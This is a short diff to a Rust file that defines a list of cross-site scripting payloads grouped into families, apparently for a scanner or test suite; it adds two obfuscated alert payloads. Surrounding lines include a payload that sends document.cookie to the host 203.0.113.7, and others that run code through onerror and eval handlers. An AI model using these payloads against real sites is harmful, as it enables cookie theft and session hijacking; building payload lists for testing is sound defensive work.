@@ -53,6 +53,8 @@ pub const FAMILIES: &[Family] = &[
             "'><a href=\"javascript:fetch('//203.0.113.7/'+document.cookie)\">x</a>",
             "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
             "<input autofocus onfocus=eval(atob('YWxlcnQoMSk='))>",
+            "[] . /**/ sort . call `${alert}1`",
+            "self[atob('YWxlcnQ=')](document.domain)",
         ],
     },
     Family {
